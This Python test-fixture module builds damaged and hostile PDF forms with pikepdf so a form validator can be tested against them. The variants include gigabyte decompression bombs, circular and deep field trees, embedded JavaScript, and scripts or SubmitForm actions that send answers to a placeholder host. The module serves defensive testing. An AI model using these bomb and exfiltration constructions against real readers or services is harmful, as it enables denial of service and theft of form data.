"""Makes forms that are damaged, or made to do harm, out of a good one; each with what must be said of it."""

from __future__ import annotations

import io
import zlib
from collections.abc import Callable, Mapping
from functools import cache
from types import MappingProxyType

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String

BOMB = 1_000_000_000
"""Bytes of nothing."""


def _changed(change: Callable[[pikepdf.Pdf], None]) -> Callable[[bytes], bytes]:
    """A hostile file that is a good one with a change in it."""

    def make(good: bytes) -> bytes:
        with pikepdf.open(io.BytesIO(good)) as pdf:
            change(pdf)
            return _saved(pdf)

    return make


def _saved(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.none, fix_metadata_version=False)
    return out.getvalue()


@cache
def _packed() -> bytes:
    """A gigabyte of nothing, deflated: a block without memory of the one before it, a thousand times."""
    packer = zlib.compressobj(9)
    blocks = [packer.compress(bytes(BOMB // 1000)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2)]
    return blocks[0] + blocks[1] * 999


def _locked(good: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(good)) as pdf:
        out = io.BytesIO()
        pdf.save(out, encryption=pikepdf.Encryption(owner="owner", user="user"))
        return out.getvalue()


def _large_metadata(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Metadata.write(_packed(), filter=Name.FlateDecode)


def _large_value(pdf: pikepdf.Pdf) -> None:
    value = pdf.make_stream(b"")
    value.write(_packed(), filter=Name.FlateDecode)
    pdf.Root.AcroForm.Fields[-1].V = value
    pdf.Root.AcroForm.Fields[-1].Ff = 0


def _large_objects(good: bytes) -> bytes:
    """An object stream that holds a gigabyte, and the form in it."""
    data = _packed()
    start = b"%PDF-1.7\n"
    bodies = {
        1: b"<</Type/Catalog/Pages 2 0 R/AcroForm 5 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
        4: b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%b\nendstream"
        % (len(data), data),
    }
    out = bytearray(start)
    rows = bytearray(bytes(7))
    for number, body in bodies.items():
        rows += bytes([1]) + len(out).to_bytes(4) + bytes(2)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    rows += bytes([2]) + (4).to_bytes(4) + bytes(2)  # object 5 is the first of those in object 4
    place = len(out)
    rows += bytes([1]) + place.to_bytes(4) + bytes(2)
    head = b"<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>" % len(rows)
    out += b"6 0 obj\n%b\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % (head, bytes(rows), place)
    return bytes(out)


def _in_a_circle(pdf: pikepdf.Pdf) -> None:
    group = next(field for field in pdf.Root.AcroForm.Fields if "/Kids" in field)
    group.Kids.append(group)
    group.Kids[0].T = String("again")


def _deep(pdf: pikepdf.Pdf) -> None:
    node = pdf.make_indirect(Dictionary(T=String("x"), FT=Name.Tx))
    for _ in range(200):
        node = pdf.make_indirect(Dictionary(T=String("x"), Kids=Array([node])))
    pdf.Root.AcroForm.Fields.append(node)


def _many(pdf: pikepdf.Pdf) -> None:
    fields = [pdf.make_indirect(Dictionary(T=String(f"x{i}"), FT=Name.Tx)) for i in range(20_000)]
    pdf.Root.AcroForm.Fields = Array(fields)


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm.XFA = Stream(pdf, b"<xdp:xdp/>")


def _no_form(pdf: pikepdf.Pdf) -> None:
    del pdf.Root.AcroForm
    del pdf.Root.Metadata


def _opens_a_script(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _named_script(pdf: pikepdf.Pdf) -> None:
    names = Array([String("x"), Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))])
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=names))


def _other_sum(pdf: pikepdf.Pdf) -> None:
    total = next(field for field in pdf.Root.AcroForm.Fields if "/AA" in field)
    total.AA.C.JS = String('AFSimple_Calculate("SUM", new Array("a")); this.submitForm("http://x.test");')


def _submits(pdf: pikepdf.Pdf) -> None:
    action = Dictionary(S=Name.SubmitForm, F=String("http://x.test"))
    pdf.Root.AcroForm.Fields[-1].A = action


HOSTILE: Mapping[str, tuple[Callable[[bytes], bytes], str]] = MappingProxyType(
    {
        "nothing": (lambda good: b"", "not a PDF"),
        "a picture": (lambda good: b"\x89PNG\r\n\x1a\n" + bytes(200), "not a PDF"),
        "a page of text": (lambda good: b"Dear clinic, here is my form.", "not a PDF"),
        "a head alone": (lambda good: good[:20], "damaged or incomplete"),
        "half of it": (lambda good: good[: len(good) // 2], "damaged or incomplete"),
        "all but the end": (lambda good: good[:-1100], "damaged or incomplete"),
        "an end of its own": (lambda good: good[: len(good) // 2] + b"\n%%EOF", "damaged or incomplete"),
        "too large": (lambda good: good + bytes(25_000_000), "more than the 25,000,000"),
        "locked": (_locked, "locked with a password"),
        "a gigabyte of metadata": (_changed(_large_metadata), "unpack to more"),
        "a gigabyte of an answer": (_changed(_large_value), "unpack to more"),
        "a gigabyte of objects": (_large_objects, "unpack to more"),
        "fields in a circle": (_changed(_in_a_circle), "circle"),
        "fields without a floor": (_changed(_deep), "more fields than any"),
        "too many fields": (_changed(_many), "more fields than any"),
        "XFA": (_changed(_xfa), "XFA"),
        "no form": (_changed(_no_form), "no form fields"),
        "a script when it opens": (_changed(_opens_a_script), "script or an action"),
        "a script for all": (_changed(_named_script), "script or an action"),
        "a script that does more than a sum": (_changed(_other_sum), "script or an action"),
        "answers that are sent": (_changed(_submits), "script or an action"),
    }
)
"""Name -> how it is made, and a piece of the sentence that it must yield."""
